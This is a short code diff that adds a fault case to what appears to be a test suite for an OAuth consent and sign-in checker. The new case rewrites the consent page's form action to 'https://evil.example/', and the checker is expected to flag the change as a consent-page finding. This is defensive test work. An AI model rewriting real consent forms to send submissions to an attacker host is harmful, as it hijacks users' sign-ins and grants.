@@ -374,6 +374,21 @@ export const deploymentFaults: readonly Fault[] = [
     isPublic,
   },
   {
+    name: 'something in front has the form of the consent page lead elsewhere',
+    plant: rewriting(async (response, { url, method }) => {
+      if (method !== 'GET' || new URL(url).pathname !== '/consent') return response
+      const text = (await response.text()).replace(
+        /action="[^"]*"/,
+        'action="https://evil.example/"',
+      )
+      return new Response(text, { status: response.status, headers: jsonHeaders(response) })
+    }),
+    finding: 'server.sign-in.page',
+    says: /consent page/,
+    cure: passOn,
+    isPublic,
+  },
+  {
     name: 'a gateway in front adds resource to what goes to Entra',
     plant: rewriting((response) => {
       const location = response.headers.get('location')
